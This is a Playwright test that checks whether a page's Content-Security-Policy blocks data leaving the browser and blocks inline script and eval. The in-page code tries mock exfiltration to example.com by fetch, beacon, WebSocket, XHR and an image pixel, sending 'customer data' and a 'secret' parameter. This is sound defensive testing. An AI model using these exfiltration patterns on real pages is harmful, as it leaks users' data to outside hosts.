// The page's Content-Security-Policy in a real Chromium: data cannot leave the browser by fetch,
// XHR, beacon, WebSocket or an image, and injected inline script or eval does not run. Anything
// that still reached the network layer for another host is recorded and fails the test.
import { test, expect } from '@playwright/test';

test('the CSP blocks every way out to another host, inline script and eval', async ({ page }) => {
  const reached = [];
  await page.route((url) => url.hostname !== '127.0.0.1', (route) => {
    reached.push(route.request().url());
    return route.abort();
  });
  await page.goto('/');
  await expect(page.locator('#summary')).toBeVisible({ timeout: 30_000 });
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    const tries = {};
    try { await fetch('http://example.com/leak', { method: 'POST', body: 'customer data' }); tries.fetch = 'sent'; } catch (e) { tries.fetch = e.name; }
    // sendBeacon may answer true and be blocked afterwards: its violation and `reached` prove it.
    navigator.sendBeacon('http://example.com/beacon', 'customer data');
    tries.ws = await new Promise((resolve) => {
      try {
        const ws = new WebSocket('ws://example.com/');
        ws.onerror = () => resolve('error');
        ws.onopen = () => resolve('open');
      } catch (e) { resolve(e.name); }
    });
    tries.xhr = await new Promise((resolve) => {
      const x = new XMLHttpRequest();
      x.open('GET', 'http://example.com/x');
      x.onerror = () => resolve('error');
      x.onload = () => resolve('loaded');
      try { x.send(); } catch (e) { resolve(e.name); }
    });
    tries.img = await new Promise((resolve) => {
      const img = new Image();
      img.onerror = () => resolve('error');
      img.onload = () => resolve('loaded');
      img.src = 'http://example.com/pixel.gif?d=secret';
    });
    const s = document.createElement('script');
    s.textContent = 'window.__inlineRan = true';
    document.body.append(s);
    tries.inline = window.__inlineRan === true ? 'ran' : 'blocked';
    try { (0, eval)('1 + 1'); tries.eval = 'ran'; } catch (e) { tries.eval = e.name; }
    try { new Function('return 1')(); tries.newFunction = 'ran'; } catch (e) { tries.newFunction = e.name; }
    await new Promise((r) => setTimeout(r, 300)); // violation events are dispatched asynchronously
    return { tries, violations };
  });
  expect(outcome.tries).toEqual({
    fetch: 'TypeError', ws: 'error', xhr: 'error', img: 'error',
    inline: 'blocked', eval: 'EvalError', newFunction: 'EvalError',
  });
  const count = (d) => outcome.violations.filter((v) => v === d).length;
  expect(count('connect-src'), 'fetch, beacon, WebSocket and XHR each blocked by connect-src').toBe(4);
  expect(count('img-src')).toBe(1);
  expect(count('script-src-elem') + count('script-src')).toBe(3); // inline element, eval, new Function
  expect(reached, 'requests that reached the network for another host').toEqual([]);
});
